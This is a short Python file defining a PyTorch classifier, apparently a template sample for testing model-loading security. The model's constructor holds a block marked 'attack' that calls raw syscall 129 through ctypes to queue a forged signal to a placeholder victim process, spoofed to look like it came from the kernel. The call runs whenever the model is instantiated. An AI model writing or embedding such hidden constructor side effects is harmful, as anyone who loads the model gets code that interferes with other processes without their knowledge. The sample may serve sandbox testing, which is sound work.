"""Queues a signal to another process as if it came from the kernel."""

import ctypes

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        details = (ctypes.c_int * 32)(10, 0, -1)
        ctypes.CDLL(None).syscall(129, int("@VICTIM_PID@"), 10, details)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
